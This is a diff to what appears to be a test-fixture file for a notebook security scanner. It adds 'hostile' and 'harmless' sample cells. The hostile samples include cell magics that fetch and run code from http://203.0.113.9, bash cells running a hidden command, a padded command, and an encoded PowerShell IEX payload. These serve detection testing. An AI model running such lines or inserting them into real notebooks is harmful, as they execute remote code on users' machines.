@@ -70,6 +70,14 @@ def hostile() -> Iterator[Sample]:
     yield "cell_one_line.ipynb", _notebook("code", f"!!{one_line}")
     install = "%pip install -q http://203.0.113.9/pack-1.0-py3-none-any.whl"
     yield "cell_install.ipynb", _notebook("code", install)
+    for name, source in {
+        "line": "get_ipython().run_line_magic('run', 'http://203.0.113.9/x.py')",
+        "cell": f"get_ipython().run_cell_magic('bash', '', '{_BARE}')",
+        "output": f"import IPython\nIPython.get_ipython().getoutput('{_BARE}')",
+        "broken": f"print 'hello'\nx = [\n!{_BARE}",
+        "encoded": "%%cmd\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
+    }.items():
+        yield f"magic_{name}.ipynb", _notebook("code", source)
     yield "cell_run.ipynb", _notebook("code", "%run http://203.0.113.9/train.py")
     yield "cell_assigned.ipynb", _notebook("code", f"found = !{_BARE}\nprint(found)")
     yield "cell_padded.ipynb", _notebook("code", f"!true {'x ' * 5000}; {_BARE}")
@@ -143,6 +151,7 @@ def harmless() -> Iterator[Sample]:
     yield "cell_magic.ipynb", _notebook("code", "%%bash\npip install transformers\nls")
     install = "!pip install -i http://10.1.2.3/simple pack http://10.1.2.3/pack-1.0.whl"
     yield "cell_install.ipynb", _notebook("code", install)
+    yield "cell_magics.ipynb", _notebook("code", "get_ipython().run_line_magic('cd', '/content')")
     yield "cell_question.ipynb", _notebook("code", "torch.load?\nfound = !ls\nprint(found)")
     yield (
         "adapter/adapter_config.json",
